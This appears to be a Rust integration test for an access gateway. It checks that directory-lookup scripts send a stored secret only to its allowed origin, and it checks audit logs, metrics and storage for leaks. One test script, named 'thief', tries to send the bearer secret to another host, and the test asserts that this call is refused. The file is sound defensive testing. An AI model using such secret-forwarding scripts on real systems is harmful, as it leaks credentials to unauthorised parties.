//! Scripts at work through real processes: claims from a directory, a secret that goes to one place only, the audit log,
//! and the counters.

use std::{
    path::Path,
    time::{Duration, Instant},
};

use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};

use crate::world::{ADMIN_PASSWORD, ALWAYS, Api, ConnectedClient, Controller, DEFAULT_SITE, start_gateway_with};

const SECRET: &str = "directory-Token-1";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn claims_come_from_a_directory_and_decide_on_controller_and_gateway() {
    let dir = tempfile::tempdir().unwrap();
    let local: &[&str] = &["--script-network", "127.0.0.0/8", "--metrics-listen", "127.0.0.1:0"];
    let controller = Controller::start_with(dir.path(), local).await;
    let admin = controller.admin().await;
    let _gateway = start_gateway_with(dir.path(), &admin, local).await;
    let post = |kind: &'static str, body: Value| admin.expect(Method::POST, kind, Some(body), StatusCode::OK);
    let directory = testing::Web::start("[\"staff\"]").await;
    let elsewhere = testing::Web::start("[\"staff\"]").await;
    let echo = testing::echo_server().await;

    let origin = format!("http://{}", directory.address);
    post("secrets", json!({ "name": "DIRECTORY", "secret": SECRET, "allowedOrigins": [origin] })).await;
    let bearer = "[{ key: 'Authorization', value: 'Bearer %SECRET:DIRECTORY%' }]";
    let groups = format!(
        "var answer = httpGet('{origin}/groups/' + claims.user.username, {bearer});\n\
         auditLog('groups of ' + claims.user.username);\n\
         return {{ groups: JSON.parse(answer.data) }};"
    );
    let thief = format!("httpGet('http://{}/', {bearer}); return {{ stolen: true }};", elsewhere.address);
    let mut scripts = Vec::new();
    for (name, expression) in [("groups", groups), ("thief", thief)] {
        let made = post("user-scripts", json!({ "name": name, "expression": expression })).await;
        scripts.push(made["id"].clone());
    }
    attach(&admin, scripts).await;
    let staff = "return claims.user.agScripted.groups.indexOf('staff') >= 0;";
    let condition = post("conditions", json!({ "name": "staff", "expression": staff })).await;
    let port = echo.port().to_string();
    let actions = json!([{ "subtype": "tcp_up", "action": "allow", "hosts": ["127.0.0.1"], "ports": [port] }]);
    let conditions = json!([ALWAYS, condition["id"]]);
    let entitlement = json!({ "name": "echo", "site": DEFAULT_SITE, "conditions": conditions, "actions": actions });
    let entitlement = post("entitlements", entitlement).await;
    post("policies", json!({ "name": "staff", "expression": staff, "entitlements": [entitlement["id"]] })).await;
    let user = json!({ "name": "ana", "firstName": "Ana", "lastName": "Example", "password": "ana-Password-1" });
    post("local-users", user).await;

    let client = ConnectedClient::start(dir.path(), &controller, "ana", "ana-Password-1", &[echo.to_string()]).await;
    let mut flow = TcpStream::connect(&client.forwards[0]).await.unwrap();
    flow.write_all(b"hello").await.unwrap();
    let mut answer = [0; 5];
    flow.read_exact(&mut answer).await.unwrap();
    assert_eq!(&answer, b"hello");

    let asked = directory.requests();
    assert!(asked.iter().all(|request| request.contains(&format!("Bearer {SECRET}"))), "{asked:?}");
    assert!(elsewhere.requests().is_empty(), "the secret left for another origin");
    let call = record(&admin, "script_http_call", |record| record["script"] == "groups").await;
    assert_eq!((&call["url"], &call["outcome"]), (&json!(format!("{origin}/groups/ana")), &json!("answer")));
    let refused = record(&admin, "script_http_call", |record| record["script"] == "thief").await;
    assert_eq!(refused["outcome"], "refused");
    assert_eq!(record(&admin, "script_audit_log", |_| true).await["message"], "groups of ana");
    let granted = record(&admin, "authorization_succeeded", |_| true).await;
    assert_eq!(granted["scripted_user_claims"], json!({ "groups": ["staff"] }));
    let failure = &granted["script_failures"][0];
    assert_eq!((&failure["user_script"], &failure["failure"]["kind"]), (&json!("thief"), &json!("http-refused")));

    let metrics = read_metrics(&controller.facts).await;
    assert!(metrics.contains("ctr_client_authorization{measure=\"success\"}"), "{metrics}");
    for file in ["controller.log", "gateway.log", "ana.log"] {
        let log = std::fs::read_to_string(dir.path().join(file)).unwrap_or_default();
        assert!(!log.contains(SECRET) && !log.contains(ADMIN_PASSWORD), "{file} holds a secret");
    }
    assert!(!holds(&dir.path().join("data"), SECRET), "the store holds a secret in the clear");
    assert!(!holds(&dir.path().join("gateway-data"), SECRET), "the gateway holds a secret in the clear");
}

/// Attaches user-claim scripts to the built-in provider.
async fn attach(admin: &Api, scripts: Vec<Value>) {
    let providers = admin.expect(Method::GET, "identity-providers?name=local", None, StatusCode::OK).await;
    let mut provider =
        providers["data"].as_array().unwrap().iter().find(|provider| provider["name"] == "local").unwrap().clone();
    provider["userScripts"] = scripts.into();
    let path = format!("identity-providers/{}", provider["id"].as_str().unwrap());
    admin.expect(Method::PUT, &path, Some(provider), StatusCode::OK).await;
}

/// The newest record of a type that is wanted, once there is one.
async fn record(admin: &Api, event: &str, wanted: impl Fn(&Value) -> bool) -> Value {
    let deadline = Instant::now() + Duration::from_secs(15);
    loop {
        let path = format!("audit-logs?limit=100&eventType={event}");
        let answer = admin.expect(Method::GET, &path, None, StatusCode::OK).await;
        if let Some(record) = answer["data"].as_array().unwrap().iter().find(|record| wanted(record)) {
            return record.clone();
        }
        assert!(Instant::now() < deadline, "no record {event}");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

async fn read_metrics(ready: &Value) -> String {
    let mut stream = TcpStream::connect(ready["metricsAddress"].as_str().unwrap()).await.unwrap();
    stream.write_all(b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n").await.unwrap();
    let mut text = String::new();
    stream.read_to_string(&mut text).await.unwrap();
    text
}

/// Whether any file of a folder holds the text.
fn holds(dir: &Path, text: &str) -> bool {
    let files = std::fs::read_dir(dir).unwrap().flatten().filter(|entry| entry.path().is_file());
    let has = |bytes: Vec<u8>| bytes.windows(text.len()).any(|part| part == text.as_bytes());
    files.filter_map(|entry| std::fs::read(entry.path()).ok()).any(has)
}
